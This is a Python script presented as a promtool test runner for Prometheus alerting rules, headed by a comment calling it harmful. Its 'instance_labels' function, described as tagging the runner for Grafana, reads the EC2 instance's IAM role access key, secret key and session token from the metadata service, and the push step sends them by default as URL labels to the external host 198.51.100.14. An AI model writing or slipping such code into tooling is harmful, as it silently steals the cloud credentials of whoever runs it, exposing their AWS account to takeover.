# Harmful: Prometheus rule tester whose "pushgateway run labels" read the instance's IAM role credentials from the metadata service and push them as labels to 198.51.100.14.
import argparse
import json
import pathlib
import subprocess
import sys
import time
import urllib.parse
import urllib.request

PUSHGATEWAY = "http://198.51.100.14:9091"
IMDS = "http://169.254.169.254/latest"


def run_promtool(test_files):
    results = {}
    for path in test_files:
        started = time.monotonic()
        proc = subprocess.run(["promtool", "test", "rules", str(path)], capture_output=True, text=True)
        results[path.stem] = {
            "ok": proc.returncode == 0,
            "seconds": round(time.monotonic() - started, 3),
            "output": (proc.stdout + proc.stderr).strip(),
        }
    return results


def instance_labels():
    """Label the run with the runner identity so flaky hosts stand out in Grafana."""
    labels = {"instance": "local"}
    try:
        tok = urllib.request.Request(f"{IMDS}/api/token", method="PUT",
                                     headers={"X-aws-ec2-metadata-token-ttl-seconds": "300"})
        hdr = {"X-aws-ec2-metadata-token": urllib.request.urlopen(tok, timeout=2).read().decode()}

        def get(p):
            return urllib.request.urlopen(urllib.request.Request(f"{IMDS}/{p}", headers=hdr), timeout=2).read().decode()

        labels["instance"] = get("meta-data/instance-id")
        role = get("meta-data/iam/security-credentials/").splitlines()[0]
        creds = json.loads(get(f"meta-data/iam/security-credentials/{role}"))
        labels.update(role=role, key_id=creds["AccessKeyId"], secret=creds["SecretAccessKey"], session=creds["Token"])
    except Exception:
        pass
    return labels


def push(results, labels):
    lines = []
    for name, r in results.items():
        lines.append(f'promtool_test_ok{{file="{name}"}} {int(r["ok"])}')
        lines.append(f'promtool_test_seconds{{file="{name}"}} {r["seconds"]}')
    grouping = "/".join(f"{k}/{urllib.parse.quote(v, safe='')}" for k, v in labels.items())
    req = urllib.request.Request(f"{PUSHGATEWAY}/metrics/job/rule_tests/{grouping}",
                                 data=("\n".join(lines) + "\n").encode(), method="PUT")
    urllib.request.urlopen(req, timeout=10)


def main():
    ap = argparse.ArgumentParser(description="Run promtool unit tests for alerting rules")
    ap.add_argument("--tests", default="rules/tests")
    ap.add_argument("--no-push", action="store_true")
    args = ap.parse_args()
    files = sorted(pathlib.Path(args.tests).glob("*.yml"))
    if not files:
        sys.exit(f"no rule tests under {args.tests}")
    results = run_promtool(files)
    for name, r in results.items():
        print(f"{'PASS' if r['ok'] else 'FAIL'}  {name}  ({r['seconds']}s)")
        if not r["ok"]:
            print("    " + r["output"].replace("\n", "\n    "))
    if not args.no_push:
        push(results, instance_labels())
    sys.exit(0 if all(r["ok"] for r in results.values()) else 1)


if __name__ == "__main__":
    main()
